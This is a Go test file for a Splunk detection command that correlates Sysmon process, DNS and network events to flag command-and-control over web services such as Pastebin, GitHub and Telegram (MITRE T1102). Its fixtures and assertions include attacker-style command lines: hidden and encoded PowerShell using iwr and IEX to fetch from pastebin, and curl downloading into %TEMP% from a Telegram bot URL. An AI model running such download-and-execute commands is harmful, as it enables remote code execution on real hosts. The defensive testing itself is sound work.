package correlate_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/chunked"
	"github.com/t1102app/t1102/src/correlate"
	"github.com/t1102app/t1102/src/fieldmap"
	"github.com/t1102app/t1102/src/internal/sysmon"
	"github.com/t1102app/t1102/src/internal/testbin"
	"github.com/t1102app/t1102/src/splunkd"
)

var argv []string // the real binary with the source tree as its app folder

func TestMain(m *testing.M) {
	os.Exit(testbin.Main(m, func(_ string, b []string) error {
		repo, err := filepath.Abs(filepath.Join("..", ".."))
		argv = []string{b[0], "-app-dir", repo}
		return err
	}, "../cmd/t1102correlate"))
}

func first(v splunkd.Value) string {
	if len(v) == 0 {
		return ""
	}
	return v[0]
}

func run(t testing.TB, input *splunkd.Table, indexers int, args ...string) *splunkd.Result {
	t.Helper()
	res, err := splunkd.Run(context.Background(), splunkd.Search{
		Argv: argv, Args: args, Input: input, Collect: true, Indexers: indexers, ChunkRows: 500,
	})
	require.NoError(t, err)
	require.Equal(t, "reporting", res.Config.Type)
	require.True(t, strings.HasPrefix(res.Config.StreamingPreop, "t1102correlate phase=map"), res.Config.StreamingPreop)
	return res
}

// TestAtomic: the project's events for the original detection's four
// Atomic Red Team tests give four rows, each with its test's evidence.
func TestAtomic(t *testing.T) {
	f, err := os.Open(filepath.Join("..", "..", "testdata", "events", "atomic.csv"))
	require.NoError(t, err)
	defer f.Close()
	events, err := splunkd.ReadTable(f, "csv")
	require.NoError(t, err)
	res := run(t, events, 3)
	tab := res.Table
	require.Len(t, tab.Rows, 4, "%v", tab.Canonical())
	get := func(i int, f string) string { return strings.Join(tab.Get(i, f), ",") }
	byImage := map[string]int{}
	for i := range tab.Rows {
		byImage[get(i, "Image")+" "+get(i, "is_legit_webservice")] = i
	}
	row := func(key string) int {
		i, ok := byImage[key]
		require.True(t, ok, "a row for %s: %v", key, tab.Canonical())
		return i
	}
	ps := row(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe pastebin`)
	require.Contains(t, get(ps, "CommandLine"), "-WindowStyle Hidden")
	require.Contains(t, get(ps, "CommandLine"), "IEX")
	require.Equal(t, "1", get(ps, "connection_count"))

	py := row(`C:\Users\jdoe\AppData\Local\Programs\Python\Python311\python.exe github`)
	require.Equal(t, "3", get(py, "connection_count"), "two connections named by the DNS answer, one by GitHub's reverse DNS")
	require.Equal(t, "0", get(py, "is_polling"), "three requests (two intervals) are too few to call polling: random times agree that well 40 % of the time ([polling] min_requests = 4)")
	require.Equal(t, "30.002", get(py, "poll_interval"), "median of 30.01 and 29.995 s, to the millisecond")
	require.Equal(t, "", get(py, "poll_score"), "not judged")

	curl := row(`C:\Windows\System32\curl.exe telegram`)
	require.Contains(t, get(curl, "CommandLine"), "-o %TEMP%")
	require.Contains(t, get(curl, "t1102_domains"), "api.telegram.org")
	require.Equal(t, "https://api.telegram.org/bot123456:AAE-example/getUpdates", get(curl, "t1102_url"), "the command line's URL stays the row's first evidence")
	require.Equal(t, get(curl, "t1102_url"), get(curl, "url"), "CIM url")
	require.Equal(t, "curl.exe", get(curl, "process_name"))
	require.Equal(t, "cmd.exe", get(curl, "parent_process_name"))
	require.Equal(t, "WKS-017", get(curl, "dest"), "dest is the host as written")
	require.Equal(t, get(curl, "first_seen"), get(curl, "_time"))
	require.Contains(t, get(curl, "t1102_reasons"), "command endpoint on api.telegram.org")

	task := row(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe github`)
	require.Equal(t, "1", get(task, "is_service_spawn"))
	require.Equal(t, "1", get(task, "is_encoded"))
	require.Equal(t, `C:\Windows\System32\svchost.exe`, get(task, "ParentImage"))
	for i := range tab.Rows {
		require.Equal(t, "T1102.003", get(i, "mitre_technique_id"))
	}
}

func corpus(t *testing.T) (*splunkd.Table, string) {
	dir := filepath.Join("..", "..", "..", "shared", "sysmon")
	if _, err := os.Stat(filepath.Join(dir, "labels.csv")); err != nil {
		t.Skipf("Sysmon corpus not found at %s (../shared sits beside a full checkout; a fresh clone has none): %v", dir, err)
	}
	datasets, err := sysmon.ReadDir(filepath.Join(dir, "xml"))
	require.NoError(t, err)
	tab := &splunkd.Table{Fields: []string{"dataset", "EventCode", "host", "_time", "UtcTime", "ProcessGuid", "Image", "CommandLine",
		"ParentImage", "User", "OriginalFileName", "Description", "Product", "DestinationHostname", "DestinationIp", "QueryName", "QueryResults"}}
	for _, ds := range datasets {
		name := ds.Name
		for _, ev := range ds.Events {
			row := make([]splunkd.Value, len(tab.Fields))
			for j, fld := range tab.Fields {
				v := ev.Get(fld)
				if fld == "dataset" {
					v = name
				}
				if fld == "host" {
					v = name + "/" + v // datasets reuse host names; keep them apart
				}
				if v != "" {
					row[j] = splunkd.Value{v}
				}
			}
			tab.Rows = append(tab.Rows, row)
		}
	}
	return tab, dir
}

// TestCorpus: spread over 1, 3 and 7 indexers the output is identical;
// every labelled malicious process has a row with its service; the benign
// one has none; the PowerShell processes whose service shows only in DNS
// get their connections counted.
func TestCorpus(t *testing.T) {
	input, dir := corpus(t)
	var want []string
	var res *splunkd.Result
	for _, n := range []int{1, 3, 7} {
		res = run(t, input, n)
		got := res.Table.Canonical()
		if want == nil {
			want = got
			continue
		}
		require.Equal(t, want, got, "%d indexers", n)
	}
	tab := res.Table
	f, err := os.Open(filepath.Join(dir, "labels.csv"))
	require.NoError(t, err)
	defer f.Close()
	labels, err := csv.NewReader(f).ReadAll()
	require.NoError(t, err)
	find := func(dataset, guid string) []int {
		var out []int
		for i := range tab.Rows {
			if strings.HasPrefix(first(tab.Get(i, "host")), dataset+"/") && strings.EqualFold(strings.Trim(first(tab.Get(i, "ProcessGuid")), "{}"), strings.Trim(guid, "{}")) {
				out = append(out, i)
			}
		}
		return out
	}
	for _, l := range labels[1:] {
		dataset, guid, image, services, verdict := l[0], l[1], l[2], l[3], l[6]
		hits := find(dataset, guid)
		if verdict == "benign" {
			require.Empty(t, hits, "%s %s", dataset, image)
			continue
		}
		require.NotEmpty(t, hits, "%s %s %s", dataset, guid, image)
		var cats []string
		for _, i := range hits {
			cats = append(cats, first(tab.Get(i, "is_legit_webservice")))
			if strings.HasPrefix(dataset, "psh_") || dataset == "schtask_modification" {
				require.NotEqual(t, "0", first(tab.Get(i, "connection_count")), "%s %s: connections named through DNS", dataset, image)
			}
		}
		require.Contains(t, cats, strings.Split(services, ";")[0], "%s %s", dataset, image)
	}
	t.Logf("%d rows from %d events", len(tab.Rows), len(input.Rows))
	for _, r := range tab.Canonical() {
		t.Log("  " + r[:min(len(r), 240)])
	}
}

func TestArguments(t *testing.T) {
	for _, tt := range []struct {
		args []string
		err  string
	}{
		{[]string{"window=0"}, "window="},
		{[]string{"max_groups=x"}, "max_groups="},
		{[]string{"phase=reduce"}, "only phase=map"},
		{[]string{"bogus=1"}, `unknown argument "bogus"`},
		{[]string{"all=maybe"}, "not a boolean"},
	} {
		_, err := correlate.ParseOptions(tt.args)
		require.ErrorIs(t, err, chunked.ErrArgument, "%v", tt.args)
		require.ErrorContains(t, err, tt.err)
	}
	// A field argument's error keeps its cause in the chain, with the
	// same message.
	for _, args := range [][]string{{"imag_field=x"}, {"image_field="}, {"fields=ecs"}} {
		_, err := correlate.ParseOptions(args)
		require.ErrorIs(t, err, chunked.ErrArgument, "%v", args)
		require.ErrorIs(t, err, fieldmap.ErrField, "%v", args)
		require.True(t, strings.HasPrefix(err.Error(), correlate.Name+": "+chunked.ErrArgument.Error()+": "+fieldmap.ErrField.Error()+": "), "%v: %v", args, err)
	}
	o, err := correlate.ParseOptions([]string{"window=60", "max_times=10", "phase=map", "all=t"})
	require.NoError(t, err)
	require.True(t, o.Map)
	require.Equal(t, []string{"window=60", "max_times=10", "all=t"}, o.Args, "the map phase gets the other arguments, not phase=map twice")
}

func table(fields []string, rows ...[]string) *splunkd.Table {
	t := &splunkd.Table{Fields: fields}
	for _, r := range rows {
		row := make([]splunkd.Value, len(fields))
		for i, v := range r {
			if v != "" {
				row[i] = splunkd.Value{v}
			}
		}
		t.Rows = append(t.Rows, row)
	}
	return t
}

var eventFields = []string{"EventCode", "host", "ProcessGuid", "_time", "Image", "CommandLine", "ParentImage", "DestinationHostname", "DestinationIp", "QueryName", "QueryResults"}

// TestSharedAddress: a connection goes to the name the process asked for
// nearest in time, even when a service shares the address later.
func TestSharedAddress(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	in := table(eventFields,
		[]string{"22", "h", "{g1}", "1000.5", ps, "", "", "", "", "shop.example", "::ffff:104.20.67.143;"},
		[]string{"3", "h", "{g1}", "1001", ps, "", "", "", "104.20.67.143", "", ""},
		[]string{"22", "h", "{g1}", "2500", ps, "", "", "", "", "pastebin.com", "::ffff:104.20.67.143;"},
	)
	res := run(t, in, 1, "all=true")
	require.Len(t, res.Table.Rows, 1, "%v", res.Table.Canonical())
	require.Equal(t, "pastebin", first(res.Table.Get(0, "is_legit_webservice")))
	require.Equal(t, "0", first(res.Table.Get(0, "connection_count")), "the connection was to shop.example")
	require.Equal(t, "1", first(res.Table.Get(0, "dns_count")))
}

// TestCapsDoNotDependOnSpread: past max_times the earliest kept are the
// same whatever the spread, and the cap is reported.
func TestCapsDoNotDependOnSpread(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	rs := [][]string{{"1", "h", "{G1}", "0", ps, "powershell -c iwr https://pastebin.com/raw/x", `C:\Windows\explorer.exe`, "", "", "", ""}}
	for i := 0; i < 120; i++ {
		rs = append(rs, []string{"3", "h", "{g1}", fmt.Sprint(60 * (i + 1)), ps, "", "", "pastebin.com", "104.20.67.143", "", ""})
	}
	in := table(eventFields, rs...)
	for _, limit := range []int{100, 10} { // 10: every map phase reaches it too
		arg := fmt.Sprintf("max_times=%d", limit)
		var want []string
		for _, n := range []int{1, 2, 5} {
			res := run(t, in, n, arg)
			got := res.Table.Canonical()
			require.Len(t, got, 1)
			require.Equal(t, fmt.Sprint(limit), first(res.Table.Get(0, "connection_count")), "%s, %d indexers", arg, n)
			require.Equal(t, fmt.Sprint(60*limit), first(res.Table.Get(0, "last_seen")), "%s: the earliest of the union", arg)
			if want == nil {
				want = got
			}
			require.Equal(t, want, got, "%s, %d indexers", arg, n)
			var warned []string
			for _, m := range res.Messages {
				if m.Level == "WARN" && strings.Contains(m.Text, arg) {
					warned = append(warned, m.Text)
				}
			}
			require.Len(t, warned, 1, "%s, %d indexers: the cap is reported once", arg, n)
			require.Contains(t, warned[0], ": 1 processes had more than", "%s, %d indexers: one process, however many map phases capped it", arg, n)
		}
	}
}

// TestMultivalueEvents: a field that arrives as a multivalue (a field
// extracted twice, an alias) counts by its first value where it identifies
// the event, and every DNS answer counts.
func TestMultivalueEvents(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	in := table(eventFields,
		[]string{"1", "h", "{G1}", "0", ps, "powershell -nop -w hidden", `C:\Windows\explorer.exe`, "", "", "", ""},
		[]string{"22", "h", "{G1}", "10", ps, "", "", "", "", "pastebin.com", ""},
	)
	in.Rows[1][0] = splunkd.Value{"22", "22"}
	in.Rows[1][10] = splunkd.Value{"::ffff:104.20.67.143", "1.1.1.1"}
	for i := 0; i < 3; i++ {
		in.Rows = append(in.Rows, []splunkd.Value{{"3", "3"}, {"h", "h"}, {"{G1}", "{G1}"}, {fmt.Sprint(20 + 30*i)}, {ps}, nil, nil, nil, {"104.20.67.143"}, nil, nil})
	}
	for _, n := range []int{1, 3} {
		res := run(t, in, n, "all=true")
		require.Len(t, res.Table.Rows, 1, "%d indexers: one process: %v", n, res.Table.Canonical())
		require.Equal(t, "pastebin", first(res.Table.Get(0, "is_legit_webservice")))
		require.Equal(t, "3", first(res.Table.Get(0, "connection_count")), "%d indexers: named through the first of two answers", n)
		require.Equal(t, "h", first(res.Table.Get(0, "host")))
	}
}

// TestSpreadAndOrderDoNotMatter: the same events, shuffled, spread at
// random over 1 to 5 indexers in chunks of 1 to 400 rows, give the same
// output: every merge is order-independent, caps included.
func TestSpreadAndOrderDoNotMatter(t *testing.T) {
	base := synthEvents(3000, 40)
	first := run(t, base, 1, "all=true", "max_times=20")
	want := first.Table.Canonical()
	require.NotEmpty(t, want)
	var capped bool
	for _, m := range first.Messages {
		capped = capped || strings.Contains(m.Text, "max_times=20")
	}
	require.True(t, capped, "the caps are part of what is compared")
	for seed := uint64(1); seed <= 6; seed++ {
		rng := rand.New(rand.NewPCG(seed, 0))
		in := &splunkd.Table{Fields: base.Fields, Rows: append([][]splunkd.Value(nil), base.Rows...)}
		rng.Shuffle(len(in.Rows), func(i, j int) { in.Rows[i], in.Rows[j] = in.Rows[j], in.Rows[i] })
		indexers := 1 + rng.IntN(5)
		owner := make([]int, len(in.Rows))
		for i := range owner {
			owner[i] = rng.IntN(indexers)
		}
		res, err := splunkd.Run(context.Background(), splunkd.Search{
			Argv: argv, Args: []string{"all=true", "max_times=20"}, Input: in, Collect: true, Indexers: indexers,
			ChunkRows: 1 + rng.IntN(400), Spread: func(row, _ int) int { return owner[row] },
		})
		require.NoError(t, err, "seed %d", seed)
		require.Equal(t, want, res.Table.Canonical(), "seed %d, %d indexers", seed, indexers)
	}
}

// TestLongQueryResults: a QueryResults value past the kept length is cut
// after its last whole answer; a cut address does not name a connection.
func TestLongQueryResults(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	// 30 answers of 16 bytes, a 14-byte CNAME entry, then an address the
	// 512-byte cut would end as "::ffff:104.20.67.1".
	results := strings.Repeat("::ffff:10.0.0.1;", 30) + "type:  5 abcd;" + "::ffff:104.20.67.143;"
	require.Equal(t, "::ffff:104.20.67.1", results[494:512])
	in := table(eventFields,
		[]string{"22", "h", "{g1}", "100", ps, "", "", "", "", "pastebin.com", results},
		[]string{"3", "h", "{g1}", "101", ps, "", "", "", "104.20.67.1", "", ""},
		[]string{"3", "h", "{g1}", "102", ps, "", "", "", "10.0.0.1", "", ""},
	)
	res := run(t, in, 1, "all=true")
	require.Len(t, res.Table.Rows, 1, "%v", res.Table.Canonical())
	require.Equal(t, "1", first(res.Table.Get(0, "connection_count")), "only the connection to a whole answer is pastebin's")
}

// TestHostAsWritten: events of one process are grouped whatever the case
// of their host name, and the row writes the host as the events do (lookups
// and where clauses after the command compare case-sensitively); when
// spellings differ, the smallest is kept, whatever the spread.
func TestHostAsWritten(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	in := table(eventFields,
		[]string{"1", "win-atk1", "{G1}", "0", ps, "powershell -c iwr https://pastebin.com/raw/x", `C:\Windows\explorer.exe`, "", "", "", ""},
		[]string{"3", "WIN-ATK1", "{g1}", "10", ps, "", "", "pastebin.com", "104.20.67.143", "", ""},
		[]string{"1", "WKS-9", "{G2}", "0", ps, "powershell -c iwr https://pastebin.com/raw/y", `C:\Windows\explorer.exe`, "", "", "", ""},
	)
	for _, n := range []int{1, 2, 3} {
		res := run(t, in, n)
		got := map[string]string{}
		for i := range res.Table.Rows {
			got[first(res.Table.Get(i, "ProcessGuid"))] = first(res.Table.Get(i, "host"))
		}
		require.Equal(t, map[string]string{"{g1}": "WIN-ATK1", "{g2}": "WKS-9"}, got, "%d indexers: one row per process, host as written", n)
	}
}

// TestFieldNames: the same events under the CIM data models' names
// (fields=cim, no EventCode: the kind of each event read from its fields)
// or under renamed fields (<name>_field=) give the same rows as under
// Sysmon's; a renamed field that is not there gets a warning.
func TestFieldNames(t *testing.T) {
	f, err := os.Open(filepath.Join("..", "..", "testdata", "events", "atomic.csv"))
	require.NoError(t, err)
	defer f.Close()
	events, err := splunkd.ReadTable(f, "csv")
	require.NoError(t, err)
	want := run(t, events, 3).Table.Canonical()
	require.NotEmpty(t, want)

	rename := func(names map[string]string) *splunkd.Table {
		out := &splunkd.Table{}
		var keep []int
		for i, f := range events.Fields {
			n, ok := names[f]
			if !ok {
				n = f
			}
			if n == "" {
				continue // dropped
			}
			keep = append(keep, i)
			out.Fields = append(out.Fields, n)
		}
		for _, r := range events.Rows {
			row := make([]splunkd.Value, 0, len(keep))
			for _, i := range keep {
				row = append(row, r[i])
			}
			out.Rows = append(out.Rows, row)
		}
		return out
	}
	cim := rename(map[string]string{"EventCode": "", "Image": "process_path", "OriginalFileName": "original_file_name", "CommandLine": "process",
		"ParentImage": "parent_process_path", "User": "user", "DestinationHostname": "dest", "DestinationIp": "dest_ip",
		"QueryName": "query", "QueryResults": "answer", "ProcessGuid": "process_guid", "ProcessId": "process_id", "TargetFilename": "file_path"})
	require.Equal(t, want, run(t, cim, 3, "fields=cim").Table.Canonical(), "CIM names, kinds inferred")

	renamed := rename(map[string]string{"ProcessGuid": "guid", "QueryName": "dns_query"})
	res := run(t, renamed, 3, "processguid_field=guid", "queryname_field=dns_query")
	require.Equal(t, want, res.Table.Canonical(), "renamed fields")

	res = run(t, events, 2, "queryname_field=dns_query")
	var warned []string
	for _, m := range res.Messages {
		if m.Level == "WARN" && strings.Contains(m.Text, "queryname_field=dns_query") {
			warned = append(warned, m.Text)
		}
	}
	require.NotEmpty(t, warned, "a renamed field that is not in the events is reported")
	_, err = correlate.ParseOptions([]string{"imag_field=x"})
	require.ErrorIs(t, err, chunked.ErrArgument)
}

// TestTimeOfCommandLineRow: a row whose only evidence is the command line
// (no connection or query of the service in the events) takes _time from
// the process creation, whatever the spread; with connections, from the
// first of them.
func TestTimeOfCommandLineRow(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	in := table(eventFields,
		[]string{"1", "h", "{G1}", "1700000000.5", ps, "powershell -c iwr https://pastebin.com/raw/x", `C:\Windows\explorer.exe`, "", "", "", ""},
		[]string{"1", "h", "{G2}", "1700000100", ps, "powershell -c iwr https://pastebin.com/raw/y", `C:\Windows\explorer.exe`, "", "", "", ""},
		[]string{"3", "h", "{G2}", "1700000101.25", ps, "", "", "pastebin.com", "104.20.67.143", "", ""},
	)
	for _, n := range []int{1, 2} {
		res := run(t, in, n)
		got := map[string]string{}
		for i := range res.Table.Rows {
			got[first(res.Table.Get(i, "ProcessGuid"))] = first(res.Table.Get(i, "_time"))
		}
		require.Equal(t, map[string]string{"{g1}": "1700000000.5", "{g2}": "1700000101.25"}, got, "%d indexers", n)
	}
}
